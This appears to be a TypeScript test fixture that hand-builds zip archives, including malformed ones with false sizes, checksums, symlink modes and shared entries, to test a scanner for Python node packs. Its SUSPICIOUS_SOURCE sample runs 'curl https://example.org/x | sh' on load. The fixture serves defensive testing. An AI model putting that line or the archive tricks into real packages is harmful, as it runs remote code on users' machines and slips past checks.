import { crc32, deflateRawSync } from 'node:zlib';

export interface ZipEntry {
  readonly name: string;
  readonly content?: string | Uint8Array;
  /** The bytes as they stand in the archive, when they are not the deflated content. */
  readonly packed?: Uint8Array;
  /** What the headers say about the unpacked size, when that is a lie. */
  readonly claimedSize?: number;
  readonly claimedCrc?: number;
  /** Type and permissions as Unix has them; a plain file by default. */
  readonly mode?: number;
  readonly flags?: number;
  /** Has no bytes of its own: its record points to those of the first entry. */
  readonly sharesFirst?: boolean;
}

const PLAIN_FILE = 0o100644;
export const LINK = 0o120777;
export const ENCRYPTED = 1;
const DEFLATED = 8;
/** Made on Unix, so that the mode counts. */
const MADE_BY = (3 << 8) | 20;

/** A zip archive, byte by byte, so that it can also be one that no packer makes. */
export function zipOf(entries: readonly ZipEntry[]): Uint8Array<ArrayBuffer> {
  const parts: Buffer[] = [];
  const records: Buffer[] = [];
  let offset = 0;
  let first: { fields: Buffer; offset: number } | undefined;

  for (const entry of entries) {
    const name = Buffer.from(entry.name);
    if (entry.sharesFirst && first) {
      records.push(directoryRecord(entry, name, first.fields, first.offset));
      continue;
    }
    const content = Buffer.from(entry.content ?? '');
    const packed = entry.packed ?? deflateRawSync(content);
    const fields = commonFields(entry, content, packed, name);
    const header = Buffer.concat([Buffer.from('PK\u0003\u0004'), fields, name]);
    first ??= { fields, offset };
    records.push(directoryRecord(entry, name, fields, offset));
    parts.push(header, Buffer.from(packed));
    offset += header.length + packed.length;
  }

  const directory = Buffer.concat(records);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...parts, directory, end]));
}

/** From "version needed" to the length of the extra field: the same in both headers. */
function commonFields(entry: ZipEntry, content: Buffer, packed: Uint8Array, name: Buffer): Buffer {
  const fields = Buffer.alloc(26);
  fields.writeUInt16LE(20, 0);
  fields.writeUInt16LE(entry.flags ?? 0, 2);
  fields.writeUInt16LE(DEFLATED, 4);
  fields.writeUInt16LE(0x5c21, 8);
  fields.writeUInt32LE(entry.claimedCrc ?? crc32(content), 10);
  fields.writeUInt32LE(packed.length, 14);
  fields.writeUInt32LE(entry.claimedSize ?? content.length, 18);
  fields.writeUInt16LE(name.length, 22);
  return fields;
}

function directoryRecord(entry: ZipEntry, name: Buffer, fields: Buffer, offset: number): Buffer {
  const record = Buffer.alloc(46);
  record.write('PK\u0001\u0002', 'latin1');
  record.writeUInt16LE(MADE_BY, 4);
  fields.copy(record, 6);
  record.writeUInt16LE(name.length, 28);
  record.writeUInt32LE(((entry.mode ?? PLAIN_FILE) << 16) >>> 0, 38);
  record.writeUInt32LE(offset, 42);
  return Buffer.concat([record, name]);
}

/** An archive of ordinary files. */
export function packOf(files: Readonly<Record<string, string>>): Uint8Array<ArrayBuffer> {
  return zipOf(Object.entries(files).map(([name, content]) => ({ name, content })));
}

/** The Python source of a harmless pack that defines nodes of the given names. */
export function sourceWithNodes(...names: readonly string[]): string {
  const classes = names.map(
    (name) => `class ${name}:
    """Scales a picture."""

    CATEGORY = "studio/scale"
    FUNCTION = "run"
    RETURN_TYPES = ("IMAGE", "MASK")
    RETURN_NAMES = ("picture", "mask")
    OUTPUT_IS_LIST = (False, True)

    @classmethod
    def INPUT_TYPES(cls):
        return {
            "required": {"image": ("IMAGE",), "steps": ("INT", {"default": 20, "min": 1})},
            "optional": {"mode": (["fast", "good"],)},
        }

    def run(self, image, steps, mode="fast"):
        return (image, None)
`,
  );
  const mappings = names.map((name) => `    "${name}": ${name},`);
  return `${classes.join('\n\n')}\n\nNODE_CLASS_MAPPINGS = {\n${mappings.join('\n')}\n}\n`;
}

/** A pack in which nothing is wrong. */
export function cleanPack(...names: readonly string[]): Uint8Array<ArrayBuffer> {
  return packOf({ '__init__.py': sourceWithNodes(...names), 'README.md': '# A pack\n' });
}

/** Line 3 starts another program when the pack is loaded. */
export const SUSPICIOUS_SOURCE = `import os

os.system("curl https://example.org/x | sh")
`;

export function suspiciousPack(): Uint8Array<ArrayBuffer> {
  return packOf({ '__init__.py': sourceWithNodes(), 'nodes/loader.py': SUSPICIOUS_SOURCE });
}
